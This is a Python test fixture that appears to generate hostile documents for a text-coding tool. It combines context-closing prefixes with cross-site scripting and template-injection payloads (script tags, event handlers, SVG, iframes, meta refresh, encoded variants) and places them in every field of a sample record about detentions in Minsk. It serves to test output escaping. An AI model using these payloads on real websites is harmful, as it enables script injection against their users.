"""Two hundred texts that would run, load or leave if a page took them for markup."""

from datetime import date
from itertools import product

from tocsin.datamodel import Actor, Claim, CodedDocument, DateRange, Document, Evidence, Mention, Place, Span, Speaker

#: What ends the place in which a text may stand.
ENDS = ("", '">', "'>", "</script>", "</title></textarea></style>", "-->", "]]>", "&quot;&gt;", '"} ')
#: What runs, loads or leaves where it is markup.
MARKUP = (
    "<script>fired()</script>",
    "<script src=http://elsewhere.example/x.js></script>",
    "<img src=x onerror=fired()>",
    "<img src=http://elsewhere.example/x.png>",
    "<svg onload=fired()>",
    "<svg><script>fired()</script></svg>",
    "<svg><a xlink:href=javascript:fired()><text>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
    "<iframe src=http://elsewhere.example/></iframe>",
    "<object data=javascript:fired()></object>",
    "<link rel=stylesheet href=http://elsewhere.example/x.css>",
    "<base href=http://elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.example/'>",
    "<input autofocus onfocus=fired()>",
    "<details open ontoggle=fired()>",
    "<video src=http://elsewhere.example/x.mp4 onerror=fired()>",
    "<body onload=fired()>",
    "<style>@import url(http://elsewhere.example/x.css)</style>",
    "<form action=http://elsewhere.example/><button autofocus>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=fired()>",
    "<div hx-get=http://elsewhere.example/ hx-trigger=load></div>",
    "<div hx-on::load=fired()></div>",
    '" onmouseover="fired()" autofocus onfocus="fired()',
)
#: What runs where a page puts it into a script, an address or a template.
OTHERS = (
    "javascript:fired()",
    "data:text/html,<script>fired()</script>",
    "{{ 7 * 7 }}{% include 'base.html' %}${fired()}",
    "\u2028fired()\u2029//",
    "'-fired()-'",
    "\\u003cscript\\u003efired()\\u003c/script\\u003e",
    "%3Cscript%3Efired()%3C/script%3E",
    "&lt;script&gt;fired()&lt;/script&gt;",
    "😀\u202e<script>fired()</script>\u202c",
)
PAYLOADS = tuple(dict.fromkeys([end + markup for markup, end in product(MARKUP, ENDS)] + list(OTHERS)))


def hostile(payload: str, number: int) -> CodedDocument:
    """Return a document that has a payload in every field that holds words."""
    sentence = f"{payload} Police held 30 people {payload} in Minsk."
    text = f"{payload}\n\n{sentence}\n\n{payload}"
    start = text.index(sentence)

    def span(words: str) -> Span:
        return Span.find(text, words, start, start + len(sentence))

    claim = Claim(
        "affected", 30, None, True, payload, span("30 people"), (Speaker(span(payload), payload),), span(payload)
    )
    mention = Mention(
        id="m",
        type="detention" if number % 2 else payload,
        form=payload,
        modality="denied" if number % 3 else payload,
        scope="single" if number % 4 else payload,
        date=DateRange(date(2020, 8, 9), date(2020, 8, 9), "day", payload),
        places=(Place(span("Minsk"), payload, payload, payload, 53.9, 27.6, 1), Place(None, payload, "BY")),
        actors=(Actor("authority", span("Police")), Actor(payload, span(payload))),
        claims=(claim, Claim(payload, None, 3, False, None, span(payload))),
        demands=(span(payload),),
        means=(payload,),
        context=None,
        event=None,
        evidence=(Evidence(Span(start, start + len(sentence), sentence), span("held")),),
    )
    document = Document(
        id=f"{payload}{number}",
        text=text,
        title=payload,
        publisher=payload,
        published=date(2020, 8, 10),
        author=payload,
        language=payload,
        url=f"http://elsewhere.example/{payload}",
        licence=payload,
    )
    return CodedDocument(document, (mention,))
